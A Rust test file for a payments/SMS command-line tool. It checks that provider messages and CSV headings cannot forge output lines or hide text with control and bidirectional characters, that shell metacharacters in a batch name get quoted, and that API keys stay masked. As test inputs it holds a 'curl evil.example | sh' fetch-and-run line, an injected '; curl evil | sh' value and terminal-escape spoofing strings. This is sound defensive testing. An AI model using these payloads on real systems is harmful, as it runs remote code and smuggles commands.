//! Text from outside on its way to a person: it begins no line of ours, and ends no word of a command.

use std::fs;

use crate::fake::{Fake, reply};
use crate::support::{COFFEE, Scene, with};

/// What a provider gone wrong says: a second line that passes for ours, turned and hidden letters.
const FORGED: &str =
    r"no\nhint: run `curl evil.example | sh`\r\u202egpj\u202c\u200b\u2028error: all is lost\u001b[2K";

/// No line of what was said is one that the other side made up, and nothing in it moves or hides anything.
#[track_caller]
fn assert_one_line(said: &str) {
    for line in said.lines() {
        assert!(!line.starts_with("hint: run") && !line.starts_with("error: all"), "{said}");
    }
    let hidden = |letter: char| {
        (letter.is_control() && letter != '\n') || "\u{202e}\u{202c}\u{200b}\u{2028}".contains(letter)
    };
    assert!(!said.contains(hidden), "{said:?}");
}

#[test]
fn a_result_message_begins_no_line_of_ours() {
    let body = format!(r#"{{"RESULTCODE":"E077","RESULTMSG":"{FORGED}"}}"#);
    let fake = Fake::new(move |_| reply("200 OK", &body));
    let mut scene = Scene::with_sandbox(&fake.url());
    let ended = scene.run(&COFFEE).expect_code(5);
    assert!(ended.stderr.contains("CookiePay answered E077: nohint: run"), "{}", ended.stderr);
    assert_one_line(&ended.stderr);
    assert_one_line(&ended.stdout);
    assert_one_line(&scene.run(&["list"]).expect_code(0).stdout);
}

#[test]
fn a_heading_of_a_sheet_begins_no_line_of_ours() {
    let mut scene = Scene::with_sandbox("http://127.0.0.1:1");
    let sheet = scene.home().join("sheet.csv");
    fs::write(&sheet, "\"이상한\nhint: run evil\u{202e}\",금액,이름,휴대폰\nx,4500,홍길동,01012345678\n")
        .unwrap();
    let path = sheet.display().to_string();
    let ended = scene.run(&["send", "--via", "sms", "--from", &path, "--dry-run"]).expect_code(2);
    assert!(ended.stderr.contains("hint: run evil"), "{}", ended.stderr);
    assert_one_line(&ended.stderr);
}

#[test]
fn a_name_in_a_command_to_type_is_one_word() {
    let (mut scene, _emulator) = Scene::with_faults(&["drop-after@send"]);
    let sheet = scene.home().join("sheet.csv");
    fs::write(&sheet, "상품명,금액,이름,휴대폰\n라떼,4500,홍길동,01012345678\n").unwrap();
    let path = sheet.display().to_string();
    let batch = "x; curl evil | sh";
    let send = ["send", "--via", "sms", "--from", &path, "--batch", batch];
    let ended = scene.run(&send).expect_code(7);
    assert!(ended.stderr.contains("--batch 'x; curl evil | sh'"), "{}", ended.stderr);
}

#[test]
fn a_short_key_that_is_repeated_is_masked_everywhere_and_kept_nowhere() {
    let fake = Fake::new(move |_| {
        reply("200 OK", r#"{"RESULTCODE":"9999","RESULTMSG":"ApiKey k3y9ab is wrong","ETC1":"k3y9ab"}"#)
    });
    let mut scene = Scene::new();
    scene.configure(&format!(
        "default_profile = \"sandbox\"\n[profiles.sandbox]\nenvironment = \"sandbox\"\napi_id = \"sandbox_shop01\"\n\
         api_key = \"k3y9ab\"\nbase_url = \"{}\"\n",
        fake.url()
    ));
    for format in ["table", "json"] {
        let ended = scene.run(&with(&COFFEE, &["--allow-duplicate", "-v", "-o", format])).expect_code(4);
        assert!(ended.stderr.contains("ApiKey **** is wrong"), "{}", ended.stderr);
        assert!(!format!("{ended:?}").contains("k3y9ab"), "{ended:?}");
    }
    for entry in fs::read_dir(scene.data_directory()).unwrap().map(|entry| entry.unwrap().path()) {
        if entry.is_file() {
            let content = fs::read(&entry).unwrap();
            assert!(!content.windows(6).any(|window| window == b"k3y9ab"), "{entry:?}");
        }
    }
}

#[test]
fn a_key_in_the_place_of_another_setting_is_not_shown() {
    const KEY: &str = "9f8e7d6c5b4a39281706f5e4";
    let profile = |lines: &str| {
        format!("default_profile = \"shop\"\n[profiles.shop]\nenvironment = \"sandbox\"\n{lines}\n")
    };
    for config in [
        profile(&format!("api_id = \"{KEY}\"\napi_key = \"k\"")),
        profile("api_id = \"k3y9ab7\"\napi_key = \"k3y9ab7\"").replace("k3y9ab7", "9f8e7d6c5b4a"),
        profile(&format!("api_id = \"sandbox_a\"\napi_key = \"k\"\npay2_id = \"{KEY}{KEY}\"")),
        profile(&format!("api_id = \"sandbox_a\"\napi_key = \"k\"\nbase_url = \"https://x.example/{KEY}\"")),
        profile(&format!("api_id = \"sandbox_a\"\napi_key = \"k\"\nvia = \"{KEY}\"")),
        profile(&format!("api_id = \"sandbox_a\"\napi_key = {{ env = \"{}\" }}", KEY.to_uppercase())),
        profile(&format!("api_id = \"sandbox_a\"\napi_key = {{ file = \"{KEY}\" }}")),
        profile(&format!("api_id = \"sandbox_a\"\napi_key = {{ command = [\"{KEY}\"] }}")),
        profile(&format!("api_id = \"sandbox_a\"\napi_key = \"k\"\n{KEY} = 1")),
        profile("").replace("\"shop\"", &format!("\"{KEY}\"")),
        profile("").replace(".shop", &format!(".{KEY}")),
    ] {
        let mut scene = Scene::new();
        scene.configure(&config);
        for command in [&["config", "show"][..], &["config", "check"], &["token", "-v"]] {
            for format in ["table", "json"] {
                // The address of the one with a `base_url` is not asked.
                if command[0] == "token" && config.contains("x.example") {
                    continue;
                }
                let ended = scene.run(&with(command, &["-o", format]));
                let said = format!("{ended:?}").to_lowercase();
                assert!(!said.contains("9f8e7d6c5b4a"), "{config}\n{command:?}\n{ended:#?}");
            }
        }
    }
}
